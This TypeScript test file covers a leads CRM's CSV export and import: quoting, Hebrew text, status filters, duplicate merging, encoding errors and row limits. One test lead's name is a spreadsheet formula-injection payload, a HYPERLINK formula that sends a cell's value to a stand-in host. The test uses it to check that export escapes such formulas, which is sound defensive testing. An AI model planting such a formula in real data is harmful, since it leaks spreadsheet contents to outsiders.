import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTenant, type Tenant } from "./fixtures";
import { errorOf, testDb } from "./helpers";
import { uniquePhone } from "./phones";

const { db, close } = testDb();
let t: Tenant;
beforeAll(async () => {
  t = await createTenant(db, "CSV test business");
});
afterAll(close);

const CSV = { "Content-Type": "text/csv" };

async function leadCount(client = t.owner): Promise<number> {
  let count = 0;
  let cursor: string | null = null;
  do {
    const page = (await (
      await client.request("GET", `/api/leads?limit=200${cursor ? `&cursor=${cursor}` : ""}`)
    ).json()) as {
      leads: unknown[];
      nextCursor: string | null;
    };
    count += page.leads.length;
    cursor = page.nextCursor;
  } while (cursor);
  return count;
}

describe("CSV export", () => {
  it("streams UTF-8 with a BOM, a stable header, RFC 4180 quoting and a dated filename", async () => {
    const tenant = await createTenant(db, "Export business");
    await tenant.agent.request("POST", "/api/leads", {
      firstName: "אבי",
      lastName: 'O"Neil, Jr.',
      phone: uniquePhone(),
      notes: "line one\nline two",
    });
    const res = await tenant.admin.request("GET", "/api/leads/export?status=new");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="leads-new-\d{4}-\d{2}-\d{2}\.csv"$/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.slice(3));
    expect(text.split("\r\n")[0]).toBe(
      "id,first_name,last_name,phone,email,source,status,tags,notes,owner_email,created_at,updated_at",
    );
    expect(text).toContain('"O""Neil, Jr."');
    expect(text).toContain('"line one\nline two"');
    expect(text).toContain("אבי");
  });

  it("exports only the requested status", async () => {
    const tenant = await createTenant(db, "Export filter business");
    await tenant.agent.request("POST", "/api/leads", { firstName: "Winner", phone: uniquePhone(), status: "won" });
    await tenant.agent.request("POST", "/api/leads", { firstName: "Loser", phone: uniquePhone(), status: "lost" });
    const text = await (await tenant.admin.request("GET", "/api/leads/export?status=won")).text();
    expect(text).toContain("Winner");
    expect(text).not.toContain("Loser");
  });
});

describe("CSV import", () => {
  it("round-trips an export through the import: Hebrew, commas, quotes and newlines survive", async () => {
    const source = await createTenant(db, "Round trip source");
    const originals = [
      {
        firstName: "שירה",
        lastName: "לוי",
        phone: uniquePhone(),
        notes: 'אמרה: "תתקשרו מחר", בבוקר\nשורה שנייה',
        tags: ["vip", "חם"],
      },
      {
        firstName: "Ann, Marie",
        lastName: 'D"Arc',
        phone: uniquePhone(),
        email: "ann@example.test",
        source: "facebook",
      },
      // A name a WhatsApp user chose: exported so a spreadsheet does not run it, imported back as typed.
      { firstName: '=HYPERLINK("http://x.test/?"&A1,"click")', lastName: "@sum", phone: uniquePhone() },
    ];
    for (const lead of originals) expect((await source.agent.request("POST", "/api/leads", lead)).status).toBe(201);
    const exported = await (await source.admin.request("GET", "/api/leads/export")).arrayBuffer();
    const exportedText = new TextDecoder().decode(exported);
    expect(exportedText).toContain(`"'=HYPERLINK(""http://x.test/?""&A1,""click"")"`);
    expect(exportedText).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const target = await createTenant(db, "Round trip target");
    const preview = await target.admin.request("POST", "/api/leads/import/preview", new Uint8Array(exported), CSV);
    expect(preview.status).toBe(200);
    expect(await preview.json()).toMatchObject({ totalRows: 3, validRows: 3, newLeads: 3, errorCount: 0 });
    const commit = await target.admin.request("POST", "/api/leads/import/commit", new Uint8Array(exported), CSV);
    expect(await commit.json()).toMatchObject({ totalRows: 3, created: 3, merged: 0, failed: 0 });

    const list = (await (await target.owner.request("GET", "/api/leads?order=asc")).json()) as {
      leads: {
        firstName: string;
        lastName: string;
        phoneE164: string;
        notes: string | null;
        tags: string[];
        email: string | null;
        source: string | null;
      }[];
    };
    for (const original of originals) {
      const copy = list.leads.find((l) => l.phoneE164 === original.phone)!;
      expect(copy).toMatchObject({
        firstName: original.firstName,
        lastName: original.lastName,
        notes: original.notes ?? null,
        tags: original.tags ?? [],
        email: original.email ?? null,
        source: original.source ?? null,
      });
    }
  });

  it("reports row errors without dropping the good rows, and merges or skips phones already in the book", async () => {
    const existingPhone = uniquePhone();
    await t.agent.request("POST", "/api/leads", { firstName: "Existing", phone: existingPhone });
    const good = uniquePhone();
    const csv = [
      "first_name,last_name,phone,email,status",
      `Good,Row,${good},good@example.test,`,
      "Bad,Phone,12345,,",
      "Bad,Status,+972547000001,,nonexistent",
      `,Merged,${existingPhone},merged@example.test,`,
      `Twice,InFile,${good},,`,
    ].join("\n");
    const preview = (await (await t.admin.request("POST", "/api/leads/import/preview", csv, CSV)).json()) as {
      errors: { line: number; fields: { field: string }[] }[];
      matchingExisting: { line: number }[];
      duplicatesInFile: { line: number; firstLine: number }[];
    };
    expect(preview.errors.map((e) => [e.line, e.fields[0]!.field])).toEqual([
      [3, "phone"],
      [4, "status"],
    ]);
    expect(preview.matchingExisting.map((m) => m.line)).toEqual([5]);
    expect(preview.duplicatesInFile).toEqual([{ line: 6, phone: good, firstLine: 2 }]);

    const skip = (await (
      await t.admin.request("POST", "/api/leads/import/commit?onDuplicate=skip", csv, CSV)
    ).json()) as Record<string, unknown>;
    expect(skip).toMatchObject({ created: 1, merged: 0, skippedExisting: 1, failed: 2 });
    const merge = (await (await t.admin.request("POST", "/api/leads/import/commit", csv, CSV)).json()) as Record<
      string,
      unknown
    >;
    expect(merge).toMatchObject({ created: 0, merged: 2, failed: 2 });
    const existing = (await (
      await t.owner.request("GET", `/api/leads?q=${encodeURIComponent(existingPhone.slice(4))}`)
    ).json()) as {
      leads: { firstName: string; lastName: string; email: string }[];
    };
    // Empty cells never erase: the first name stays, the new surname and email are added.
    expect(existing.leads[0]).toMatchObject({
      firstName: "Existing",
      lastName: "Merged",
      email: "merged@example.test",
    });
  });

  it("refuses a CSV with a broken quote, naming the line, and writes nothing", async () => {
    const before = await leadCount();
    const csv = `first_name,phone\nOk,${uniquePhone()}\n"Broken,${uniquePhone()}\nAfter,${uniquePhone()}\n`;
    const res = await t.admin.request("POST", "/api/leads/import/commit", csv, CSV);
    expect(res.status).toBe(400);
    const error = await errorOf(res);
    expect(error.code).toBe("invalid_csv");
    expect(error.message).toMatch(/line \d+/);
    expect(await leadCount()).toBe(before);
  });

  it("refuses a file that is not UTF-8 (e.g. Windows-1255 Hebrew) and writes nothing", async () => {
    const before = await leadCount();
    // "שם" in Windows-1255 is 0xF9 0xED: invalid as UTF-8.
    const bytes = new Uint8Array([
      ...new TextEncoder().encode("first_name,phone\n"),
      0xf9,
      0xed,
      ...new TextEncoder().encode(`,${uniquePhone()}\n`),
    ]);
    const res = await t.admin.request("POST", "/api/leads/import/commit", bytes, CSV);
    expect(res.status).toBe(400);
    expect((await errorOf(res)).code).toBe("invalid_encoding");
    expect(await leadCount()).toBe(before);
  });

  it("refuses a CSV without any known column, and a body that is not CSV", async () => {
    const res = await t.admin.request("POST", "/api/leads/import/preview", "colour,size\nred,L\n", CSV);
    expect(res.status).toBe(400);
    expect((await errorOf(res)).message).toContain("No name, phone or email column");
    const json = await t.admin.request("POST", "/api/leads/import/preview", { not: "csv" });
    expect(json.status).toBe(415);
  });

  it("imports 10,000 rows in one request, and refuses 10,001", async () => {
    const tenant = await createTenant(db, "Big import business");
    const rows = ["first_name,phone"];
    const seen = new Set<string>();
    while (rows.length <= 10_000) {
      const phone = uniquePhone();
      if (seen.has(phone)) continue;
      seen.add(phone);
      rows.push(`Lead ${rows.length},${phone}`);
    }
    const res = await tenant.admin.request("POST", "/api/leads/import/commit", rows.join("\n"), CSV);
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ totalRows: 10_000, created: 10_000, failed: 0 });
    expect(await leadCount(tenant.owner)).toBe(10_000);

    const tooMany = await tenant.admin.request(
      "POST",
      "/api/leads/import/preview",
      `${rows.join("\n")}\nOne more,+972547999999`,
      CSV,
    );
    expect(tooMany.status).toBe(413);
    expect((await errorOf(tooMany)).code).toBe("too_many_rows");
  }, 120_000);
});
